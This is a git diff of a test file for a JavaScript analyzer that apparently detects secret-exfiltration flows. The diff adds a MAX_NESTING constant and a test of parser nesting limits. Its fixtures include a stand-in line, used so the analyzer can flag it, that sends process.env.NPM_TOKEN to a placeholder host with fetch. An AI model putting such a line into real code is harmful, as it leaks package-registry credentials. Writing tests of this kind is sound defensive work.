@@ -1,5 +1,5 @@
 import { describe, expect, it } from "vitest";
-import { isJsLike, parseJs } from "../../../src/analyzers/js/parse.js";
+import { isJsLike, MAX_NESTING, parseJs } from "../../../src/analyzers/js/parse.js";
 import { analyze } from "./helpers.js";
 
 describe("parsing", () => {
@@ -36,7 +36,7 @@ describe("parsing", () => {
   });
 
   it("survives deeply nested and very long code", async () => {
-    const nested = "a(".repeat(300) + ")".repeat(300) + ";";
+    const nested = "a(".repeat(MAX_NESTING) + ")".repeat(MAX_NESTING) + ";";
     const concat = "const s = " + Array.from({ length: 3000 }, (_, i) => `'p${i}'`).join(" + ") + ";";
     const facts = await analyze({ "index.js": `${nested}\n${concat}\nfetch('https://x.example.invalid', { body: process.env.NPM_TOKEN });` });
     expect(facts.flows).toHaveLength(1);
@@ -44,8 +44,18 @@ describe("parsing", () => {
 
   it("code nested beyond what the parsers handle is a ParseProblem for that file only", async () => {
     const facts = await analyze({ "index.js": "fetch('https://x.example.invalid', { body: process.env.NPM_TOKEN });", "deep.js": "a(".repeat(5000) + ")".repeat(5000) });
-    expect(facts.parseProblems.map((p) => [p.file, p.message])).toEqual([["deep.js", "could not parse: code nested too deeply for the parser"]]);
+    expect(facts.parseProblems.map((p) => [p.file, p.message])).toEqual([["deep.js", `could not parse: code nested deeper than ${MAX_NESTING} levels`]]);
     expect(facts.flows).toHaveLength(1);
+  });
+
+  it("the nesting limit is the same however warm the parsers are, and brackets in strings do not count", async () => {
+    const arrows = (n: number) => "var t = " + "() => (".repeat(n) + "1" + ")".repeat(n) + ";";
+    // 300 nested arrow bodies overflow a fresh parser's stack but not a warmed-up one: refused both ways.
+    for (let i = 0; i < 3; i++) expect(parseJs("a.js", arrows(MAX_NESTING + 100)).problem).toBe(`could not parse: code nested deeper than ${MAX_NESTING} levels`);
+    expect(parseJs("a.js", arrows(MAX_NESTING)).ast).toBeDefined();
+    const strings = `var open = ${JSON.stringify("(".repeat(5000))}; // ${"[".repeat(5000)}\nvar re = /\\(/g;`;
+    expect(parseJs("s.js", strings)).toMatchObject({ ast: expect.anything() });
+    expect(parseJs("s.js", strings).problem).toBeUndefined();
   });
 
   it("never hangs on loops that do not terminate", async () => {
